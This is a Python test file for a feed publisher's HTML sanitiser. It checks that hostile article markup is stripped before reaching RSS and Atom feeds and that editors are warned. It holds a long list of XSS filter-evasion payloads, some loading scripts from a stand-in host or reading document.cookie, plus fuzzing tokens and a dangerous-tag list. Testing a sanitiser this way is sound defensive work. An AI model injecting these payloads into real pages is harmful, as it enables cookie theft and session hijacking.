"""Sanitised bodies: hostile HTML never reaches a feed; news HTML does; editors are told once."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import feedparser
import lxml.html
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from feedpub import ConfigError, build, load_config
from feedpub.records.content import absolutize_html
from feedpub.records.sanitise import HtmlAllow, html_removals, sanitise_html

CONFIG = """
title = "Test Site"
link = "https://example.com/"
description = "Test feeds."
timezone = "Asia/Jakarta"
limit = 200
"""
NOW_DATE = "2022-12-02T10:00:00+07:00"

# The OWASP XSS filter-evasion cases (written from memory) and a few of their descendants:
# mixed case, character references, broken and nested tags, SVG and MathML, unquoted values.
HOSTILE = [
    '<p onclick="alert(1)">Hi<script>alert(2)</script><img src=x onerror=alert(3)>'
    '<a href="javascript:alert(4)">x</a><iframe src="//evil"></iframe><style>body{}</style></p>',
    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    '<a onmouseover="alert(document.cookie)">link</a>',
    "<a onmouseover=alert(document.cookie)>link</a>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;"
    "&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
    "&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74"
    "&#x28&#x31&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href="javas&Tab;cript:alert(1)">x</a>',
    '<a href="JAVASCRIPT&#58;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.example/xss.js?< B >",
    "<iframe src=http://xss.example/scriptlet.html <",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\"><IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:javascript:alert(1)">CLICKME</math>',
    '<math><maction actiontype="statusline#http://x.example" xlink:href="javascript:alert(2)">'
    "CLICKME</maction></math>",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><TD BACKGROUND="javascript:alert(1)">x',
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml"></EMBED>',
    '<APPLET CODE="x.class"></APPLET>',
    '<img srcset="javascript:alert(1) 1x, https://ok.example/a.png 2x">',
    '<picture><source srcset="javascript:alert(1)"><img src="/a.jpg"></picture>',
    '<form><button formaction="javascript:alert(1)">X</button></form>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)></audio>',
    '<video poster="javascript:alert(1)" controls></video>',
    "<details open ontoggle=alert(1)>x</details>",
    '<blockquote cite="javascript:alert(1)">q</blockquote>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<p title="x"onclick="alert(1)">adjacent</p>',
    "<img src=x onerror=alert(1)",
    "<xss onafterscriptexecute=alert(1)><script>1</script>",
    '<a href="#" style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</a>',
    '<a href="https://ok.example/" target="_blank">tab</a>',
    "<template><script>alert(1)</script></template>",
]
# Tricks that are inert as a browser parses them (the "attack" is an attribute's text or a
# relative URL): they must come out inert, and no editor is bothered about them.
HARMLESS = [
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    '<img src="x" alt="<script>alert(1)</script>">',
    '<p title="javascript:alert(1)">onclick=alert(1) &lt;script&gt;</p>',
]
# What the W3C feed validator calls "potentially dangerous content", and more of its kind.
DANGEROUS_TAGS = {
    *("script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "meta"),
    *("link", "base", "form", "input", "button", "svg", "math", "bgsound", "template"),
    *("noscript", "xss", "body", "title"),
}
URL_ATTRIBUTES = {"href", "src", "poster", "cite", "action", "formaction", "background"}


def _assert_inert(fragment: str, *, relative: bool = False) -> None:
    """Nothing in an HTML fragment (as a reader's browser parses it) can run or restyle;
    every URL is absolute http(s), mailto or tel (or, with ``relative``, has no scheme)."""
    schemes = ("http", "https", "mailto", "tel", *([""] if relative else []))
    root = lxml.html.fragment_fromstring(fragment, create_parent="div")
    for element in root.iter():
        assert isinstance(element.tag, str), f"comment or PI kept: {fragment!r}"
        assert element.tag.lower() not in DANGEROUS_TAGS, fragment
        for name, value in element.attrib.items():
            name = name.lower()
            assert not name.startswith("on"), fragment
            assert name not in ("style", "target", "srcdoc"), fragment
            if name in URL_ATTRIBUTES:
                assert urlsplit(value).scheme in schemes, fragment
            if name == "srcset":
                for candidate in value.split(","):
                    url = candidate.split()
                    if url:  # an empty candidate names nothing to fetch
                        assert urlsplit(url[0]).scheme in schemes, fragment


def _site(tmp_path: Path, bodies: list[str], config: str = CONFIG) -> Path:
    (tmp_path / "feedpub.toml").write_text(config)
    articles = tmp_path / "articles"
    articles.mkdir()
    for number, body in enumerate(bodies):
        record = {
            "title": f"Story {number}",
            "url": f"/story/{number}/",
            "date_published": f"2022-12-{1 + number % 28:02d}T10:00:00+07:00",
            "content_html": body,
        }
        (articles / f"s{number:03d}.json").write_text(json.dumps(record), encoding="utf-8")
    return tmp_path


def _xpath(path: Path, query: str) -> list[Any]:
    parser = etree.XMLParser(resolve_entities=False, no_network=True)
    found: list[Any] = etree.fromstring(path.read_bytes(), parser).xpath(query)
    return found


def _contents(path: Path) -> list[str]:
    """Every HTML body of a feed, exactly as a reader gets it (Atom content, content:encoded)."""
    query = "//*[local-name()='content' or local-name()='encoded']"
    return [element.text or "" for element in _xpath(path, query)]


def test_hostile_corpus_leaves_nothing_executable_in_rss_or_atom(tmp_path: Path) -> None:
    site = _site(tmp_path, HOSTILE + HARMLESS)
    before = {p.name: p.read_bytes() for p in (site / "articles").iterdir()}
    report = build(site / "articles", site / "public", load_config(site / "feedpub.toml"))
    assert report.exit_code == 0, [str(e) for e in report.errors]
    for name in ("rss.xml", "atom.xml"):
        path = site / "public" / name
        entries = feedparser.parse(path.read_bytes()).entries
        assert len(entries) == len(HOSTILE + HARMLESS)  # every story is out, its body cleaned
        for body in _contents(path):
            _assert_inert(body)
    # Summaries are plain text: RSS carries them escaped as HTML, Atom says type="text".
    for description in _xpath(site / "public" / "rss.xml", "//item/description"):
        _assert_inert(description.text or "")
    summaries = _xpath(site / "public" / "atom.xml", "//*[local-name()='summary']")
    assert summaries
    assert {s.get("type") for s in summaries} == {"text"}
    # The records on disk are what the editors wrote.
    assert {p.name: p.read_bytes() for p in (site / "articles").iterdir()} == before
    # One warning for each record that lost something, naming it; none for the harmless.
    warned = sorted(str(w.path) for w in report.warnings)
    assert warned == [str(site / "articles" / f"s{n:03d}.json") for n in range(len(HOSTILE))]
    assert all(w.field == "content_html" and "allow-list" in w.reason for w in report.warnings)


def test_the_issue_example_is_reported_by_name_and_count(tmp_path: Path) -> None:
    site = _site(tmp_path, [HOSTILE[0]])
    report = build(site / "articles", site / "public", load_config(site / "feedpub.toml"))
    assert [str(w) for w in report.warnings] == [
        f"{site / 'articles' / 's000.json'}: content_html: warning: left out of the feeds"
        " (not on the HTML allow-list): tags iframe (1), script (1), style (1);"
        " attributes href (1), onclick (1), onerror (1)"
    ]
    [body] = _contents(site / "public" / "atom.xml")
    assert body == '<p>Hi<img src="https://example.com/story/0/x"><a>x</a></p>'


NEWS = [
    '<figure><picture><source srcset="/img/a.webp 1x, /img/a@2x.webp 2x" type="image/webp">'
    '<img src="/img/a.jpg" alt="Rapat" width="800" height="450" loading="lazy"></picture>'
    "<figcaption>Rapat koordinasi, <em>Jumat</em>.</figcaption></figure>",
    '<blockquote cite="https://example.com/pidato"><p>Kutipan.</p></blockquote>'
    '<ol start="3"><li>Tiga</li><li value="9">Sembilan</li></ol>',
    '<table><caption>Hasil</caption><thead><tr><th scope="col">Kab.</th></tr></thead>'
    '<tbody><tr><td colspan="2">Lampung</td></tr></tbody></table>',
    '<video controls width="640" poster="/v/p.jpg"><source src="/v/a.mp4" type="video/mp4">'
    '<track src="/v/a.vtt" kind="captions" srclang="id" label="Indonesia"></video>'
    '<audio controls src="https://cdn.example.com/a.mp3"></audio>',
    '<p>Baca <a href="https://other.example/x" rel="nofollow">ini</a> &amp; '
    '<a href="mailto:desk@example.com">surat</a>, <abbr title="Pemerintah Provinsi">Pemprov'
    '</abbr> <time datetime="2022-12-02">2/12</time>.</p><!-- wp:paragraph -->',
]


def _tags(fragment: str) -> list[str]:
    root = lxml.html.fragment_fromstring(fragment, create_parent="div")
    return [e.tag for e in root.iter() if isinstance(e.tag, str)]


@pytest.mark.parametrize("body", NEWS)
def test_news_html_keeps_its_structure_without_a_warning(body: str) -> None:
    assert not html_removals(body)
    kept = sanitise_html(body)
    assert _tags(kept) == _tags(body)
    assert "<!--" not in kept


def test_relative_links_are_made_absolute_after_sanitising(tmp_path: Path) -> None:
    site = _site(tmp_path, ['<a href="../lain/">a</a><a href="javascript:x()">b</a>'])
    build(site / "articles", site / "public", load_config(site / "feedpub.toml"))
    [body] = _contents(site / "public" / "atom.xml")
    assert body == '<a href="https://example.com/story/lain/">a</a><a>b</a>'


def test_data_image_urls_are_refused_too() -> None:
    inline = '<img src="data:image/png;base64,iVBORw0KGgo=" alt="x">'
    assert sanitise_html(inline) == '<img alt="x">'
    assert html_removals('<img src="data:image/png;base64,AA">').attributes == (("src", 1),)


YOUTUBE = """
[html_allow]
tags = ["iframe"]
attributes = { iframe = ["src", "width", "height", "allowfullscreen", "title"] }
hosts = { iframe = ["www.youtube-nocookie.com"] }
"""


def test_html_allow_admits_iframes_from_named_hosts_only(tmp_path: Path) -> None:
    good = (
        '<iframe src="https://www.youtube-nocookie.com/embed/x" width="560" allowfullscreen>'
        "</iframe>"
    )
    bad = '<iframe src="https://evil.example/embed/x" onload="alert(1)"></iframe>'
    site = _site(tmp_path, [good, bad], CONFIG + YOUTUBE)
    report = build(site / "articles", site / "public", load_config(site / "feedpub.toml"))
    bodies = _contents(site / "public" / "atom.xml")
    assert bodies[1] == (
        '<iframe src="https://www.youtube-nocookie.com/embed/x" width="560" allowfullscreen="">'
        "</iframe>"
    )
    assert bodies[0] == "<iframe></iframe>"
    [warning] = report.warnings
    assert warning.path and warning.path.endswith("s001.json")
    assert warning.reason.endswith("attributes onload (1), src (1)")


def test_without_html_allow_an_iframe_is_removed() -> None:
    allow = HtmlAllow(tags=("iframe",), attributes=(("iframe", ("src",)),))
    frame = '<iframe src="https://player.example/x"></iframe>'
    assert sanitise_html(frame) == ""
    assert sanitise_html(frame, allow) == frame
    assert html_removals(frame).tags == (("iframe", 1),)
    assert not html_removals(frame, allow)


@pytest.mark.parametrize(
    ("table", "message"),
    [
        ('tags = ["script"]', "html_allow.tags: script cannot be allowed"),
        ('tags = ["Style"]', "html_allow.tags: style cannot be allowed"),
        ('attributes = { p = ["onclick"] }', "html_allow.attributes.p: onclick cannot be allowed"),
        ('attributes = { marquee = ["x"] }', "marquee is not an allowed tag (add it to tags)"),
        ('tags = ["<b>"]', "not a tag or attribute name"),
        ('tags = "iframe"', "html_allow.tags: must be a list of names"),
        ("colours = []", "html_allow.colours: unknown key"),
        (
            'tags = ["iframe"]\nhosts = { iframe = ["https://x.example/"] }',
            "html_allow.hosts.iframe: not a host name (no scheme or path): 'https://x.example/'",
        ),
    ],
)
def test_html_allow_refuses_what_cannot_be_made_safe(
    tmp_path: Path, table: str, message: str
) -> None:
    path = tmp_path / "feedpub.toml"
    path.write_text(CONFIG + "\n[html_allow]\n" + table + "\n")
    with pytest.raises(ConfigError) as caught:
        load_config(path)
    assert message in str(caught.value)


TOKENS = [
    "<p>", "</p>", "<a href=\"", "<a href=", "\">", "'>", ">", "<", "</", "<img src=", "x",
    " onerror=alert(1)", " onclick=\"alert(1)\"", "javascript:", "JaVaScRiPt:", "&#106;",
    "&#x09;", "&colon;", "data:text/html,", "<script>", "</script>", "<scr", "ipt>", "<svg",
    "<math>", "<style>", "<!--", "-->", "<iframe src=//x>", "\"", "'", " ", "\t", "/",
    " style=x", " srcset=\"", "<form action=", "<noscript>", "<table><tr><td>", "text",
]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(TOKENS), max_size=14))
def test_any_mix_of_hostile_tokens_comes_out_inert(tokens: list[str]) -> None:
    fragment = "".join(tokens)
    cleaned = sanitise_html(fragment)
    if cleaned.strip():
        _assert_inert(cleaned, relative=True)
        _assert_inert(absolutize_html(cleaned, "https://example.com/a/"))
